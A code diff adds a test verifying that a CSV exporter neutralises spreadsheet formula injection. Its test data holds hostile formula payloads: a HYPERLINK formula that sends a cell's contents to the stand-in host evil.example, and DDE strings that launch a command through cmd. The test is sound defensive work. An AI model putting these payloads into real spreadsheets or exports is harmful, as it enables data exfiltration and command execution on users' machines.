@@ -154,6 +154,18 @@ def test_csv_export_round_trips(tmp_path: Path) -> None:
     assert path.read_text(encoding="utf-8") == buf.getvalue()
 
 
+def test_csv_export_neutralises_spreadsheet_formulas() -> None:
+    """Text a spreadsheet would run (=, +, -, @, tab, CR) starts with ' in the CSV; reading it back restores it."""
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+             "=cmd|' /C calc'!A0", "'quoted already", "plain, =not at the start"]
+    labels = [label(alert=i + 1, reason=text) for i, text in enumerate(texts)]
+    buf = io.StringIO(newline="")
+    labels_to_csv(labels, buf)
+    reasons = [row[LABEL_COLUMNS.index("reason")] for row in csv.reader(io.StringIO(buf.getvalue(), newline=""))][1:]
+    assert reasons == ["'" + t for t in texts[:-1]] + [texts[-1]]
+    assert read_labels_csv(io.StringIO(buf.getvalue(), newline="")) == labels
+
+
 def test_parquet_export_round_trips_with_the_same_typed_columns(tmp_path: Path) -> None:
     labels = sample_labels()
     path = tmp_path / "labels.parquet"
